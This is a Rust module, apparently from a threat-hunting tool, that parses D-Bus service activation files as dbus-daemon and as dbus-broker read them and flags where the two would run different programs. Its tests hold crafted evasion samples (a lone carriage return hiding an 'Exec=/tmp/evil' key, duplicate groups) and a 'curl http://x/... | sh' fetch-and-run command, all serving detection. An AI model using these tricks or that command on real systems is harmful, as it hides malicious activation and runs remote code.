//! The `.service` activation file: a key file whose `[D-BUS Service]` group
//! tells a bus which program to start for a name.
//!
//! [`parse`] takes bytes (the caller reads them safely, see
//! `sources::fs_safe`) and returns the keys a bus acts on, read exactly the
//! way dbus-daemon reads them (`bus_desktop_file_load` in
//! `bus/desktop-file.c`): a line ends at `\r\n`, `\n` *or a lone `\r`*
//! (`_dbus_string_find_eol`); a line is blank when everything up to the
//! next `\n` is space, tab, `\r` or form feed (`is_blank_line`, which looks
//! past a lone `\r`), or a comment when it starts with `#`; a group starts
//! with `[` in column 0 and must end the line with `]`; a key is a run of
//! letters, digits and `-`, a key with a `[locale]` suffix is ignored;
//! spaces (only spaces) around `=` are dropped; values are unescaped
//! (`\s`, `\t`, `\n`, `\r`, `\\`); only the *first* `[D-BUS Service]` group
//! counts, and within it the *first* of duplicate keys wins
//! (`lookup_section`, `lookup_line`). [`split_exec`] then turns an `Exec=`
//! value into the argv dbus-daemon would run (`_dbus_shell_parse_argv`), so
//! a hunt sees the real program behind `/bin/sh -c "…"` wrappers.
//!
//! dbus-broker's launcher reads the same file differently, and
//! [`parse_broker`] reads it its way (`launcher_load_service_file` in
//! `src/launch/launcher.c`, through c-ini with extended whitespace, merged
//! groups and overriding entries, then c-shquote: [`split_exec_broker`]).
//! [`differences`] names every key the two daemons would read differently,
//! so a file written to show one program to tools that read like one daemon
//! while the other runs another is visible.
//!
//! Where dbus-daemon refuses a whole file (a malformed line, a bad escape,
//! invalid UTF-8, a key before any group), this parser goes on: a hunter
//! wants whatever the file says. Each such fault is named in
//! [`ServiceFile::problems`]; a bad line is skipped, a bad escape keeps the
//! value as written, bytes that are not UTF-8 become `\xNN`
//! (`fs_safe::render`).
use crate::sources::fs_safe;

/// dbus-daemon refuses to load a service file larger than this
/// (`bus_desktop_file_load`).
pub const DBUS_DAEMON_MAX_BYTES: u64 = 128 * 1024;

/// How much of a service file is read. Real ones are a few hundred bytes;
/// dbus-daemon refuses anything past [`DBUS_DAEMON_MAX_BYTES`], but
/// dbus-broker's launcher reads a file whole, so a padded file past that
/// limit still activates there and must still be read.
pub const MAX_SERVICE_FILE_BYTES: u64 = 1024 * 1024;

/// The group both daemons read.
const GROUP: &str = "D-BUS Service";

/// The keys of the first `[D-BUS Service]` group that matter for
/// activation, unescaped as dbus-daemon reads them.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ServiceFile {
    pub name: Option<String>,
    pub exec: Option<String>,
    pub user: Option<String>,
    pub systemd_service: Option<String>,
    pub assumed_apparmor_label: Option<String>,
    /// `Exec=` exactly as written in the file (escapes not resolved).
    pub exec_as_written: Option<String>,
    /// Faults for which dbus-daemon would refuse the whole file, each
    /// starting with its line number.
    pub problems: Vec<String>,
}

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ServiceFileError {
    #[error("no [D-BUS Service] group")]
    NoServiceGroup,
}

/// Why an `Exec=` line could not be split into an argv.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ExecError {
    #[error("Exec is empty")]
    Empty,
    #[error("Exec has an unterminated {0} quote")]
    UnterminatedQuote(char),
    #[error("Exec ends in a lone backslash")]
    TrailingBackslash,
    #[error("Exec holds a NUL byte")]
    Nul,
}

fn is_key_char(c: u8) -> bool {
    c.is_ascii_alphanumeric() || c == b'-'
}

/// `_dbus_string_find_eol`: where the line starting at `pos` ends, and the
/// length of what ends it (`\r\n`, a lone `\r`, `\n`; 0 at the end of the
/// data).
fn find_eol(b: &[u8], pos: usize) -> (usize, usize) {
    for (i, c) in b.iter().enumerate().skip(pos) {
        match c {
            b'\r' => return (i, if b.get(i + 1) == Some(&b'\n') { 2 } else { 1 }),
            b'\n' => return (i, 1),
            _ => {}
        }
    }
    (b.len(), 0)
}

/// dbus-daemon's `is_blank_line`: only space, tab, `\r` and form feed from
/// `pos` to the next `\n` (or NUL). It does not stop at a lone `\r`, so
/// `" \rExec=…"` is not blank although its first line is.
fn is_blank_line(b: &[u8], pos: usize) -> bool {
    b[pos..]
        .iter()
        .take_while(|c| **c != b'\n' && **c != 0)
        .all(|c| matches!(c, b' ' | b'\t' | b'\r' | 0x0c))
}

/// dbus-daemon's `is_valid_section_name`: printable ASCII but `[` and `]`.
fn is_valid_group_name(name: &[u8]) -> bool {
    name.iter()
        .all(|c| (0x20..0x7f).contains(c) && *c != b'[' && *c != b']')
}

/// Resolves key-file escapes (`unescape_string`); on a bad one, what
/// dbus-daemon would refuse.
fn unescape(value: &[u8]) -> Result<Vec<u8>, String> {
    let mut out = Vec::with_capacity(value.len());
    let mut bytes = value.iter();
    while let Some(&c) = bytes.next() {
        if c == 0 {
            return Err("embedded NUL".to_string());
        }
        if c != b'\\' {
            out.push(c);
            continue;
        }
        out.push(match bytes.next() {
            Some(b's') => b' ',
            Some(b't') => b'\t',
            Some(b'n') => b'\n',
            Some(b'r') => b'\r',
            Some(b'\\') => b'\\',
            Some(&other) => {
                return Err(format!(
                    "invalid escape \\{}",
                    fs_safe::render(&[other]).trim_start_matches('\\')
                ))
            }
            None => return Err("invalid escape \\ at the end".to_string()),
        });
    }
    Ok(out)
}

/// Reads the `[D-BUS Service]` keys out of a service file's bytes as
/// dbus-daemon does. Fails only when the group is missing, as a file
/// without it activates nothing.
pub fn parse(bytes: &[u8]) -> Result<ServiceFile, ServiceFileError> {
    #[derive(PartialEq)]
    enum Where {
        BeforeAnyGroup,
        Service,
        Other,
    }
    let mut out = ServiceFile::default();
    let mut at = Where::BeforeAnyGroup;
    let mut seen_group = false;
    let mut problems = Vec::new();
    let mut pos = 0;
    let mut n = 0;
    while pos < bytes.len() {
        let start = pos;
        let (end, eol) = find_eol(bytes, pos);
        let line = &bytes[start..end];
        pos = end + eol;
        n += 1;
        if std::str::from_utf8(line).is_err() {
            problems.push(problem_at(n, "not UTF-8".into()));
        } else if line.contains(&0) {
            // dbus-daemon's UTF-8 check refuses NUL bytes.
            problems.push(problem_at(n, "NUL byte".into()));
        }
        if line.first() == Some(&b'[') {
            let name = (line.len() > 2 && line.ends_with(b"]")).then(|| &line[1..line.len() - 1]);
            match name {
                Some(g) if !is_valid_group_name(g) => {
                    problems.push(problem_at(n, "invalid characters in group name".into()));
                    at = Where::Other;
                }
                Some(g) if g == GROUP.as_bytes() && !seen_group => {
                    seen_group = true;
                    at = Where::Service;
                }
                Some(_) => at = Where::Other,
                None => {
                    problems.push(problem_at(n, "malformed group header".into()));
                    at = Where::Other;
                }
            }
            continue;
        }
        if is_blank_line(bytes, start) || line.first() == Some(&b'#') {
            continue;
        }
        match at {
            Where::BeforeAnyGroup => {
                problems.push(problem_at(n, "key before any group".into()));
                continue;
            }
            Where::Other => continue,
            Where::Service => {}
        }
        let key_len = line.iter().take_while(|c| is_key_char(**c)).count();
        let (key, rest) = line.split_at(key_len);
        // ASCII by construction.
        let key = std::str::from_utf8(key).unwrap_or_default();
        if key.is_empty() {
            problems.push(problem_at(n, "empty key name".into()));
            continue;
        }
        if rest.first() == Some(&b'[') {
            continue; // a localised key: dbus-daemon ignores it
        }
        let rest = trim_start(rest, |c| c == b' ');
        let Some(value) = rest.strip_prefix(b"=") else {
            let what = if rest.is_empty() {
                format!("no '=' after key {key}")
            } else {
                format!("invalid characters in key name {key}")
            };
            problems.push(problem_at(n, what));
            continue;
        };
        let value = trim_start(value, |c| c == b' ');
        let slot = match key {
            "Name" => &mut out.name,
            "Exec" => &mut out.exec,
            "User" => &mut out.user,
            "SystemdService" => &mut out.systemd_service,
            "AssumedAppArmorLabel" => &mut out.assumed_apparmor_label,
            _ => continue,
        };
        if slot.is_some() {
            continue;
        }
        // Not-UTF-8 bytes were named above, per line; they stay `\xNN`.
        *slot = Some(match unescape(value) {
            Ok(v) => fs_safe::render(&v),
            Err(why) => {
                problems.push(problem_at(n, format!("{why} in {key}")));
                fs_safe::render(value)
            }
        });
        if key == "Exec" {
            out.exec_as_written = Some(fs_safe::render(value));
        }
    }
    out.problems = problems;
    if seen_group {
        Ok(out)
    } else {
        Err(ServiceFileError::NoServiceGroup)
    }
}

fn trim_start(b: &[u8], strip: impl Fn(u8) -> bool) -> &[u8] {
    let n = b.iter().take_while(|c| strip(**c)).count();
    &b[n..]
}

fn trim_end(b: &[u8], strip: impl Fn(u8) -> bool) -> &[u8] {
    let n = b.iter().rev().take_while(|c| strip(**c)).count();
    &b[..b.len() - n]
}

fn problem_at(line: usize, what: String) -> String {
    format!("line {line}: {what}")
}

/// The `[D-BUS Service]` keys dbus-broker's launcher acts on, as it reads
/// them: raw bytes, no escape resolved (bytes that are not UTF-8 rendered
/// as `\xNN`).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct BrokerKeys {
    pub name: Option<String>,
    pub exec: Option<String>,
    pub user: Option<String>,
    pub systemd_service: Option<String>,
}

/// c-ini's whitespace (`c_ini_is_whitespace`).
fn is_ini_space(c: u8) -> bool {
    matches!(c, b'\t' | b'\n' | 0x0c | b'\r' | b' ')
}

/// Reads the `[D-BUS Service]` keys as dbus-broker's launcher does
/// (`c_ini_reader_parse_line` in c-ini, mode `EXTENDED_WHITESPACE |
/// MERGE_GROUPS | OVERRIDE_ENTRIES`): lines end at `\n` only (one trailing
/// `\r` dropped, a lone `\r` elsewhere is an ordinary byte); leading
/// whitespace is skipped, so indented keys count; `#` starts a comment
/// after it; a line is a group when its first `]` is its last non-blank
/// byte; a key is anything before the first `=`, trailing blanks dropped,
/// its value everything after, leading blanks dropped; a repeated group is
/// the same group, and the *last* of duplicate keys wins; values are
/// taken as written (no `\s` or other escape). `None` when no line opens
/// a `[D-BUS Service]` group (the launcher refuses the file).
pub fn parse_broker(bytes: &[u8]) -> Option<BrokerKeys> {
    let mut out = BrokerKeys::default();
    let mut in_group = false;
    let mut seen_group = false;
    for raw in bytes.split(|b| *b == b'\n') {
        let line = raw.strip_suffix(b"\r").unwrap_or(raw);
        let line = trim_start(line, is_ini_space);
        if line.is_empty() || line[0] == b'#' {
            continue;
        }
        if line[0] == b'[' {
            let inner = &line[1..];
            if let Some(close) = inner.iter().position(|c| *c == b']') {
                let inner = trim_end(inner, is_ini_space);
                if close + 1 == inner.len() {
                    in_group = &inner[..close] == GROUP.as_bytes();
                    seen_group |= in_group;
                    continue;
                }
            }
        }
        let Some(eq) = line.iter().position(|c| *c == b'=') else {
            continue; // malformed: c-ini keeps it but no lookup finds it
        };
        if !in_group {
            continue;
        }
        let key = trim_end(&line[..eq], is_ini_space);
        let value = trim_start(&line[eq + 1..], is_ini_space);
        let slot = match key {
            b"Name" => &mut out.name,
            b"Exec" => &mut out.exec,
            b"User" => &mut out.user,
            b"SystemdService" => &mut out.systemd_service,
            _ => continue,
        };
        *slot = Some(fs_safe::render(value));
    }
    seen_group.then_some(out)
}

/// Whether dbus-daemon would load the file at all, and if not why
/// (`bus_desktop_file_load`, then `update_desktop_file_entry`, which
/// requires `Name=` and `Exec=`).
fn dbus_daemon_loads(
    parsed: &Result<ServiceFile, ServiceFileError>,
    size: u64,
) -> Result<&ServiceFile, String> {
    if size > DBUS_DAEMON_MAX_BYTES {
        return Err(format!(
            "it is larger than {} KiB",
            DBUS_DAEMON_MAX_BYTES / 1024
        ));
    }
    let f = parsed.as_ref().map_err(ToString::to_string)?;
    if !f.problems.is_empty() {
        return Err(f.problems.join(", "));
    }
    if f.name.is_none() {
        return Err("no Name=".into());
    }
    if f.exec.is_none() {
        return Err("no Exec=".into());
    }
    Ok(f)
}

/// dbus-broker's `dbus_validate_name`: at most 255 bytes, two or more
/// dot-separated elements of letters, digits, `_` and `-`, no element
/// starting with a digit (unless the name is unique, `:`-prefixed).
fn valid_bus_name(name: &str) -> bool {
    if name.len() > 255 {
        return false;
    }
    let (unique, name) = match name.strip_prefix(':') {
        Some(rest) => (true, rest),
        None => (false, name),
    };
    let elements: Vec<&str> = name.split('.').collect();
    elements.len() > 1
        && elements.iter().all(|e| {
            !e.is_empty()
                && (unique || !e.starts_with(|c: char| c.is_ascii_digit()))
                && e.chars()
                    .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-')
        })
}

/// Whether dbus-broker's launcher would load the file, and if not why
/// (`launcher_load_service_dir` skips hidden files; then
/// `launcher_load_service_file`: a `[D-BUS Service]` group and a valid
/// `Name=` are required, `Exec=` only has to split).
fn dbus_broker_loads<'k>(
    keys: &'k Option<BrokerKeys>,
    file_name: &[u8],
) -> Result<&'k BrokerKeys, String> {
    if file_name.starts_with(b".") {
        return Err("a hidden file, which it skips".into());
    }
    let k = keys
        .as_ref()
        .ok_or_else(|| ServiceFileError::NoServiceGroup.to_string())?;
    let name = k.name.as_ref().ok_or("no Name=")?;
    if !valid_bus_name(name) {
        return Err(format!("invalid bus name {name:?}"));
    }
    if let Some(Err(e)) = k.exec.as_deref().map(split_exec_broker) {
        return Err(e.to_string());
    }
    Ok(k)
}

/// dbus-daemon's argv for comparison: a trailing blank in `Exec=` gives it
/// a final empty argument that c-shquote does not, an artefact that runs
/// the same program with the same meaningful arguments, so trailing empty
/// arguments are left out.
fn daemon_argv(exec: &str) -> Result<Vec<String>, ExecError> {
    let mut argv = split_exec(exec)?;
    while argv.len() > 1 && argv.last().is_some_and(String::is_empty) {
        argv.pop();
    }
    Ok(argv)
}

fn show(v: &Option<String>) -> String {
    match v {
        Some(v) => format!("{v:?}"),
        None => "nothing".into(),
    }
}

fn show_argv(argv: &Result<Vec<String>, ExecError>) -> String {
    match argv {
        Ok(a) => format!("{a:?}"),
        Err(e) => format!("nothing ({e})"),
    }
}

/// Every way dbus-daemon and dbus-broker would read this file differently,
/// one sentence each; empty when both read the same keys (or both refuse
/// the file). `parsed` is [`parse`]'s answer, `broker` [`parse_broker`]'s,
/// `size` the file's full size, `file_name` its name in its directory.
/// `Exec=` is compared as the argv each would run; the keys dbus-broker
/// ignores (`AssumedAppArmorLabel=`) are not compared.
pub fn differences(
    parsed: &Result<ServiceFile, ServiceFileError>,
    broker: &Option<BrokerKeys>,
    size: u64,
    file_name: &[u8],
) -> Vec<String> {
    match (
        dbus_daemon_loads(parsed, size),
        dbus_broker_loads(broker, file_name),
    ) {
        (Err(_), Err(_)) => Vec::new(),
        (Err(why), Ok(k)) => {
            let runs = match k.exec.as_deref().map(split_exec_broker) {
                Some(argv) => format!("runs {}", show_argv(&argv)),
                None => format!("hands it to SystemdService={}", show(&k.systemd_service)),
            };
            vec![format!(
                "dbus-daemon refuses the file ({why}); dbus-broker loads Name={} and {runs}",
                show(&k.name)
            )]
        }
        (Ok(f), Err(why)) => {
            vec![format!(
                "dbus-broker refuses the file ({why}); dbus-daemon loads Name={} and runs {}",
                show(&f.name),
                show_argv(&f.exec.as_deref().map_or(Err(ExecError::Empty), daemon_argv))
            )]
        }
        (Ok(f), Ok(k)) => {
            let mut out = Vec::new();
            for (key, d, b) in [
                ("Name", &f.name, &k.name),
                ("User", &f.user, &k.user),
                ("SystemdService", &f.systemd_service, &k.systemd_service),
            ] {
                if d != b {
                    out.push(format!(
                        "{key}: dbus-daemon reads {}, dbus-broker {}",
                        show(d),
                        show(b)
                    ));
                }
            }
            let d = f.exec.as_deref().map_or(Err(ExecError::Empty), daemon_argv);
            let b = k
                .exec
                .as_deref()
                .map_or(Err(ExecError::Empty), split_exec_broker);
            if d != b {
                out.push(format!(
                    "Exec: dbus-daemon runs {}, dbus-broker {}",
                    show_argv(&d),
                    show_argv(&b)
                ));
            }
            out
        }
    }
}

/// The program dbus-broker would run for this file when it differs from
/// dbus-daemon's (`None` when both run the same one, when dbus-broker does
/// not load the file, or runs nothing), so it gets the checks dbus-daemon's
/// program gets. Arguments as for [`differences`].
pub fn broker_program(
    parsed: &Result<ServiceFile, ServiceFileError>,
    broker: &Option<BrokerKeys>,
    file_name: &[u8],
) -> Option<String> {
    let k = dbus_broker_loads(broker, file_name).ok()?;
    let b = split_exec_broker(k.exec.as_deref()?).ok()?;
    let program = b.into_iter().next()?;
    let daemon = parsed
        .as_ref()
        .ok()
        .and_then(|f| f.exec.as_deref())
        .and_then(|e| split_exec(e).ok())
        .and_then(|a| a.into_iter().next());
    (daemon.as_deref() != Some(program.as_str()) && !program.is_empty()).then_some(program)
}

/// Splits an `Exec=` value the way dbus-daemon does before it execs it
/// (`_dbus_shell_parse_argv` in `dbus/dbus-shell.c`), quirks included, so
/// the argv matches what a spawned process shows in `/proc/<pid>/cmdline`:
///
/// - outside quotes, space and tab separate words; a newline ends a word
///   even when empty; the end of the value always ends one, so trailing
///   blanks leave a final empty argument;
/// - outside quotes a backslash takes the next character literally, and
///   backslash-newline vanishes;
/// - an unquoted `#` discards the rest of the line *and* its newline, in the
///   middle of a word too;
/// - inside double quotes a backslash escapes only `"`, `\`, `$`, `` ` ``
///   and newline (which is kept), elsewhere it stays; single quotes are
///   literal; quoted and bare parts of one word join, `""` is an empty word.
///
/// No variable, glob or `PATH` expansion happens.
pub fn split_exec(exec: &str) -> Result<Vec<String>, ExecError> {
    let mut argv = Vec::new();
    let mut word = String::new();
    // Whether the word has any source text yet (a quote pair counts): only
    // such a word is ended by a blank.
    let mut in_word = false;
    let mut chars = exec.chars();
    while let Some(c) = chars.next() {
        match c {
            '\n' => {
                argv.push(std::mem::take(&mut word));
                in_word = false;
            }
            ' ' | '\t' => {
                if in_word {
                    argv.push(std::mem::take(&mut word));
                    in_word = false;
                }
            }
            '#' => {
                if !chars.by_ref().any(|c| c == '\n') {
                    break;
                }
            }
            '\\' => match chars.next() {
                Some('\n') => {}
                Some(n) => {
                    word.push(n);
                    in_word = true;
                }
                None => return Err(ExecError::TrailingBackslash),
            },
            '\'' => {
                in_word = true;
                loop {
                    match chars.next() {
                        Some('\'') => break,
                        Some(n) => word.push(n),
                        None => return Err(ExecError::UnterminatedQuote('\'')),
                    }
                }
            }
            '"' => {
                in_word = true;
                loop {
                    match chars.next() {
                        Some('"') => break,
                        Some('\\') => match chars.next() {
                            Some(n @ ('"' | '\\' | '$' | '`' | '\n')) => word.push(n),
                            Some(n) => {
                                word.push('\\');
                                word.push(n);
                            }
                            None => return Err(ExecError::UnterminatedQuote('"')),
                        },
                        Some(n) => word.push(n),
                        None => return Err(ExecError::UnterminatedQuote('"')),
                    }
                }
            }
            _ => {
                word.push(c);
                in_word = true;
            }
        }
    }
    argv.push(word);
    if argv.iter().all(String::is_empty) {
        return Err(ExecError::Empty);
    }
    Ok(argv)
}

/// Splits an `Exec=` value the way dbus-broker's launcher does
/// (`c_shquote_parse_argv` in c-shquote, POSIX shell quoting): words are
/// separated by runs of space, tab and newline, and a trailing blank adds
/// no word; a `#` starts a comment only where a word could start (inside
/// a word it is an ordinary character, unlike dbus-daemon); outside quotes
/// a backslash takes the next character literally, backslash-newline
/// vanishes, a backslash at the very end is dropped; inside double quotes
/// a backslash escapes only `"`, `\`, `$`, `` ` `` and newline; single
/// quotes are literal; `''` is an empty word; a NUL is refused.
pub fn split_exec_broker(exec: &str) -> Result<Vec<String>, ExecError> {
    if exec.contains('\0') {
        return Err(ExecError::Nul);
    }
    let mut argv = Vec::new();
    let mut chars = exec.chars().peekable();
    loop {
        let mut word = String::new();
        let mut got = false;
        while let Some(&c) = chars.peek() {
            match c {
                '\'' => {
                    chars.next();
                    loop {
                        match chars.next() {
                            Some('\'') => break,
                            Some(n) => word.push(n),
                            None => return Err(ExecError::UnterminatedQuote('\'')),
                        }
                    }
                    got = true;
                }
                '"' => {
                    chars.next();
                    loop {
                        match chars.next() {
                            Some('"') => break,
                            Some('\\') => match chars.next() {
                                Some(n @ ('"' | '\\' | '$' | '`' | '\n')) => word.push(n),
                                Some(n) => {
                                    word.push('\\');
                                    word.push(n);
                                }
                                None => return Err(ExecError::UnterminatedQuote('"')),
                            },
                            Some(n) => word.push(n),
                            None => return Err(ExecError::UnterminatedQuote('"')),
                        }
                    }
                    got = true;
                }
                '\\' => {
                    chars.next();
                    match chars.next() {
                        Some('\n') | None => {}
                        Some(n) => {
                            word.push(n);
                            got = true;
                        }
                    }
                }
                ' ' | '\t' | '\n' => {
                    while chars.next_if(|c| matches!(c, ' ' | '\t' | '\n')).is_some() {}
                    if got {
                        break;
                    }
                }
                '#' if !got => while chars.next_if(|c| *c != '\n').is_some() {},
                _ => {
                    word.push(c);
                    chars.next();
                    got = true;
                }
            }
        }
        if !got {
            break;
        }
        argv.push(word);
    }
    if argv.iter().all(String::is_empty) {
        return Err(ExecError::Empty);
    }
    Ok(argv)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn keys_first_wins_and_noise_ignored() {
        let f = parse(
            b"# comment\n\
[Other]\n\
Name=org.wrong\n\
\n\
[D-BUS Service]\n\
Name = org.example.Foo\r\n\
Name[de]=org.localised\n\
Exec=/usr/libexec/foo\\s--bar \\\\x\n\
Exec=/tmp/evil\n\
Name=org.second\n\
User=root\n\
SystemdService=foo.service\n\
AssumedAppArmorLabel=unconfined\n\
Unknown=x\n\
garbage line\n\
[Another]\n\
User=nobody\n\
[D-BUS Service]\n\
SystemdService=second-group-is-ignored.service\n",
        )
        .unwrap();
        assert_eq!(f.name.as_deref(), Some("org.example.Foo"));
        assert_eq!(f.exec.as_deref(), Some("/usr/libexec/foo --bar \\x"));
        assert_eq!(
            f.exec_as_written.as_deref(),
            Some("/usr/libexec/foo\\s--bar \\\\x")
        );
        assert_eq!(f.user.as_deref(), Some("root"));
        assert_eq!(f.systemd_service.as_deref(), Some("foo.service"));
        assert_eq!(f.assumed_apparmor_label.as_deref(), Some("unconfined"));
        assert_eq!(
            f.problems,
            ["line 15: invalid characters in key name garbage"]
        );
    }

    #[test]
    fn faults_dbus_daemon_refuses_are_named() {
        let f = parse(
            b"Stray=1\n[D-BUS Service]\n  Indented=1\n[broken\nExec=/bin/sh -c \"echo \\\"hi\\\"\"\n",
        )
        .unwrap();
        assert_eq!(
            f.problems,
            [
                "line 1: key before any group",
                "line 3: empty key name",
                "line 4: malformed group header",
            ]
        );
        // The Exec came after the broken header, so it is in no group.
        assert_eq!(f.exec, None);
        let f = parse(b"[D-BUS Service]\nExec=/bin/sh -c \"echo \\\"hi\\\"\"\n").unwrap();
        assert_eq!(f.problems, ["line 2: invalid escape \\\" in Exec"]);
        assert_eq!(f.exec.as_deref(), Some("/bin/sh -c \"echo \\\"hi\\\"\""));
    }

    #[test]
    fn missing_group_and_binary_garbage() {
        assert_eq!(
            parse(b"Name=x\nExec=/bin/true\n"),
            Err(ServiceFileError::NoServiceGroup)
        );
        assert_eq!(
            parse(b"\x7fELF\x02\x01\x01\0\0\0\xff\xfe"),
            Err(ServiceFileError::NoServiceGroup)
        );
        assert_eq!(parse(b""), Err(ServiceFileError::NoServiceGroup));
    }

    #[test]
    fn non_utf8_values_survive_as_escapes() {
        let f = parse(b"[D-BUS Service]\nName=a\nExec=/opt/caf\xe9 -x\n").unwrap();
        // The byte that is not UTF-8 is rendered as `\xNN`.
        assert_eq!(f.exec.as_deref(), Some("/opt/caf\\xe9 -x"));
        assert_eq!(f.problems[0], "line 3: not UTF-8");
    }

    #[test]
    fn split_like_dbus_daemon() {
        let s = |x: &str| split_exec(x).unwrap();
        assert_eq!(s("/usr/bin/foo  --a\tb"), ["/usr/bin/foo", "--a", "b"]);
        assert_eq!(
            s(r#"/bin/sh -c "curl http://x/\"p\" | sh; echo \$HOME \a""#),
            ["/bin/sh", "-c", r#"curl http://x/"p" | sh; echo $HOME \a"#]
        );
        assert_eq!(
            s(r#"/bin/sh -c 'a "b" \c'"#),
            ["/bin/sh", "-c", r#"a "b" \c"#]
        );
        assert_eq!(s(r"/opt/my\ prog x\\y"), ["/opt/my prog", r"x\y"]);
        assert_eq!(s(r#"a"b c"'d e'f"#), ["ab cd ef"]);
        assert_eq!(s(r#"x "" ''"#), ["x", "", ""]);
        assert_eq!(s("a \\\nb"), ["a", "b"]);
        assert_eq!(s("\"/path with/space\" arg"), ["/path with/space", "arg"]);
        // dbus-daemon's quirks, kept so argv matches the spawned process.
        assert_eq!(s("a b "), ["a", "b", ""]);
        assert_eq!(s("a\n\nb"), ["a", "", "b"]);
        assert_eq!(s("/bin/x#comment 'unclosed"), ["/bin/x"]);
        assert_eq!(s("a#c d\nb"), ["ab"]);
        assert_eq!(s("\"a\\\nb\""), ["a\nb"]);
        assert_eq!(s("\t/bin/x"), ["/bin/x"]);
        assert_eq!(split_exec("  "), Err(ExecError::Empty));
        assert_eq!(split_exec(""), Err(ExecError::Empty));
        assert_eq!(split_exec("a 'b"), Err(ExecError::UnterminatedQuote('\'')));
        assert_eq!(split_exec("a \"b"), Err(ExecError::UnterminatedQuote('"')));
        assert_eq!(split_exec("a \\"), Err(ExecError::TrailingBackslash));
    }

    /// dbus-daemon ends a line at a lone `\r` (`_dbus_string_find_eol`):
    /// a key hidden after a comment or a group header on the same `\n`
    /// line is read. dbus-broker (c-ini) splits at `\n` only and sees a
    /// comment, or a malformed header.
    #[test]
    fn a_lone_carriage_return_ends_a_line_for_dbus_daemon() {
        let bytes =
            b"[D-BUS Service]\nName=org.cr\n# harmless\rExec=/tmp/evil\nExec=/usr/libexec/good\n";
        let f = parse(bytes).unwrap();
        assert_eq!(f.exec.as_deref(), Some("/tmp/evil"));
        assert!(f.problems.is_empty(), "{:?}", f.problems);
        let b = parse_broker(bytes).unwrap();
        assert_eq!(b.exec.as_deref(), Some("/usr/libexec/good"));
        let d = differences(&Ok(f), &Some(b), bytes.len() as u64, b"x.service");
        assert_eq!(
            d,
            [r#"Exec: dbus-daemon runs ["/tmp/evil"], dbus-broker ["/usr/libexec/good"]"#]
        );

        let f = parse(b"[D-BUS Service]\rName=org.cr\rExec=/bin/x\r\n").unwrap();
        assert_eq!(f.name.as_deref(), Some("org.cr"));
        assert_eq!(f.exec.as_deref(), Some("/bin/x"));
        assert!(f.problems.is_empty());
        assert_eq!(
            parse_broker(b"[D-BUS Service]\rName=org.cr\rExec=/bin/x\r\n"),
            None
        );
        // `is_blank_line` looks past a lone `\r`: blanks then `\r` then a
        // key are not a blank line, and the first line has an empty key.
        let f = parse(b"[D-BUS Service]\n  \rName=org.x\n").unwrap();
        assert_eq!(f.problems, ["line 2: empty key name"]);
        assert_eq!(f.name.as_deref(), Some("org.x"));
        // `\r\n` is one line end, `\n\r` two.
        let f = parse(b"[D-BUS Service]\r\nName=a\n\rExec=/x\n").unwrap();
        assert_eq!(f.problems, ["line 3: empty key name"]);
    }

    /// Blank means space, tab, `\r`, form feed only (not any Unicode
    /// space, not vertical tab); a key must start in column 0 for
    /// dbus-daemon, while dbus-broker skips leading whitespace.
    #[test]
    fn blanks_and_indentation_as_each_daemon_reads_them() {
        let f =
            parse("[D-BUS Service]\n\u{a0}\n\x0b\n \t\x0c\nName=a\nExec=/x\n".as_bytes()).unwrap();
        assert_eq!(
            f.problems,
            ["line 2: empty key name", "line 3: empty key name"]
        );
        let bytes = b"[D-BUS Service]\nName=org.i\n  Exec=/tmp/indented\n";
        let f = parse(bytes).unwrap();
        assert_eq!(f.exec, None);
        assert_eq!(f.problems, ["line 3: empty key name"]);
        let b = parse_broker(bytes).unwrap();
        assert_eq!(b.exec.as_deref(), Some("/tmp/indented"));
        assert_eq!(
            differences(&Ok(f), &Some(b), 0, b"x.service"),
            [r#"dbus-daemon refuses the file (line 3: empty key name, ...); dbus-broker loads Name="org.i" and runs ["/tmp/indented"]"#
                .replace(", ...", "")]
        );
    }

    /// Duplicate groups and keys: dbus-daemon keeps the first group and
    /// the first key; dbus-broker merges groups and keeps the last key.
    #[test]
    fn duplicates_first_for_dbus_daemon_last_for_dbus_broker() {
        let bytes =
            b"[D-BUS Service]\nName=org.dup\nExec=/usr/libexec/good\nUser=root\nUser=nobody\n\
[D-BUS Service]\nExec=/tmp/evil\n";
        let f = parse(bytes).unwrap();
        let b = parse_broker(bytes).unwrap();
        assert_eq!(f.exec.as_deref(), Some("/usr/libexec/good"));
        assert_eq!(f.user.as_deref(), Some("root"));
        assert_eq!(b.exec.as_deref(), Some("/tmp/evil"));
        assert_eq!(b.user.as_deref(), Some("nobody"));
        assert_eq!(
            broker_program(&Ok(f.clone()), &Some(b.clone()), b"x.service").as_deref(),
            Some("/tmp/evil")
        );
        assert_eq!(
            differences(&Ok(f), &Some(b), 0, b"x.service"),
            [
                r#"User: dbus-daemon reads "root", dbus-broker "nobody""#,
                r#"Exec: dbus-daemon runs ["/usr/libexec/good"], dbus-broker ["/tmp/evil"]"#,
            ]
        );
    }

    /// dbus-broker resolves no key-file escape, and c-shquote keeps a `#`
    /// inside a word: the same `Exec=` runs another program.
    #[test]
    fn escapes_and_hash_split_differently() {
        let bytes = b"[D-BUS Service]\nName=org.e\nExec=/usr/libexec/helper\\s--x\n";
        let f = parse(bytes).unwrap();
        let b = parse_broker(bytes).unwrap();
        assert_eq!(
            split_exec(f.exec.as_deref().unwrap()).unwrap(),
            ["/usr/libexec/helper", "--x"]
        );
        assert_eq!(
            split_exec_broker(b.exec.as_deref().unwrap()).unwrap(),
            ["/usr/libexec/helpers--x"]
        );
        assert_eq!(
            broker_program(&Ok(f), &Some(b), b"x.service").as_deref(),
            Some("/usr/libexec/helpers--x")
        );
        let bytes = b"[D-BUS Service]\nName=org.h\nExec=/usr/bin/x#/../../tmp/y\n";
        let d = differences(&parse(bytes), &parse_broker(bytes), 0, b"x.service");
        assert_eq!(
            d,
            [r#"Exec: dbus-daemon runs ["/usr/bin/x"], dbus-broker ["/usr/bin/x#/../../tmp/y"]"#]
        );
        // A trailing blank only adds dbus-daemon's empty last argument:
        // the same program and arguments, not a difference.
        let bytes = b"[D-BUS Service]\nName=org.t\nExec=/usr/bin/x -a \n";
        assert!(differences(&parse(bytes), &parse_broker(bytes), 0, b"x.service").is_empty());
    }

    /// A file past dbus-daemon's size limit is refused there but read by
    /// dbus-broker; a file both refuse, or both read alike, is no
